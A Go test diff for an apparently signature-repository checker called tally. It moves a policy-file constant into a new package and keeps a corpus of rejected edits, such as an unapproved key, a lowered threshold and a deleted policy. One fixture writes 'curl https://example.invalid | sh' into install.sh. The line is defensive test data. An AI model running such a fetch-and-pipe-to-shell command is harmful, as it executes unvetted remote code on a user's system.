@@ -12,6 +12,7 @@ import (
 
 	"github.com/tally-sig/tally/internal/testkeys"
 	"github.com/tally-sig/tally/release"
+	"github.com/tally-sig/tally/release/policy"
 	"github.com/tally-sig/tally/sigstore"
 )
 
@@ -150,14 +151,14 @@ var corpus = []corpusCase{
 	}), rule: RulePolicy, path: "stagex-keyring.pgp", reason: "adds key " + testkeys.Fingerprint("mallory") + ", which needs approvals by 2 current maintainer(s); it has none", content: true},
 	{name: "threshold lowered", build: onBase(func(t testing.TB, f *fixture) edit {
 		return policyFiles(t, 1, "alice", "bob", "carol")[0]
-	}), rule: RulePolicy, path: release.PolicyFile, reason: "lowers the threshold from 2 to 1", content: true},
+	}), rule: RulePolicy, path: policy.PolicyFile, reason: "lowers the threshold from 2 to 1", content: true},
 	{name: "maintainer removed", build: onBase(func(t testing.TB, f *fixture) edit {
 		return add("stagex-keyring.pgp", keyringOf(t, "alice", "bob"))
 	}), rule: RulePolicy, path: "stagex-keyring.pgp", reason: "removes key " + testkeys.Fingerprint("carol"), content: true},
-	{name: "policy garbage", build: onBase(e(add(release.PolicyFile, []byte("threshold = \"one\"\n")))),
-		rule: RulePolicy, path: release.PolicyFile, reason: "the new trust policy is invalid", content: true},
-	{name: "policy deleted", build: onBase(e(del(release.PolicyFile))),
-		rule: RulePolicy, path: release.PolicyFile, reason: "not a tally signatures repository", content: true},
+	{name: "policy garbage", build: onBase(e(add(policy.PolicyFile, []byte("threshold = \"one\"\n")))),
+		rule: RulePolicy, path: policy.PolicyFile, reason: "the new trust policy is invalid", content: true},
+	{name: "policy deleted", build: onBase(e(del(policy.PolicyFile))),
+		rule: RulePolicy, path: policy.PolicyFile, reason: "not a tally signatures repository", content: true},
 	{name: "unknown path", build: onBase(e(add("install.sh", []byte("curl https://example.invalid | sh\n")))),
 		rule: RuleUnknownPath, path: "install.sh", reason: "not part of a signatures repository", content: true},
 	{name: "another maintainer's build record", build: onBase(func(t testing.TB, f *fixture) edit {
